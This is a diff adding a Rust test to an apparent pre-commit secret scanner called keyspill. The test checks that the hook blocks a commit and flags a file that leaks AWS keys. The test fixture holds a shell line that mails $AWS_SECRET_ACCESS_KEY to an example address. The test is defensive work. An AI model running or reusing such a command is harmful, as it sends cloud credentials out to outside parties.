@@ -408,6 +408,23 @@ fn what_git_only_shows_below_a_message_is_not_the_message() {
 }
 
 #[test]
+fn what_is_no_key_is_not_called_one() {
+    let sandbox = hooked(&[]);
+    sandbox.write("mail.sh", "echo \"$AWS_SECRET_ACCESS_KEY\" | mail -s key bob@example.com\n");
+    let run = commit(&sandbox, &[]);
+    assert!(
+        run.code != Some(0) && run.stderr.contains("keyspill stopped the commit: see what is in it"),
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains("mail.sh:1: Code that mails an AWS key"), "{}", run.stderr);
+    assert!(run.stderr.contains("Do not send the key."), "{}", run.stderr);
+    sandbox.write("mail.sh", "a={{akia}}\nb={{akia b}}\n");
+    let run = commit(&sandbox, &[]);
+    assert!(run.stderr.contains("there are AWS keys in it, 2 of them"), "{}", run.stderr);
+}
+
+#[test]
 fn pushes_may_be_given_as_expressions() {
     let (sandbox, _remote) = pushing(&["--pre-push"]);
     sandbox.write("b.txt", "x\n");
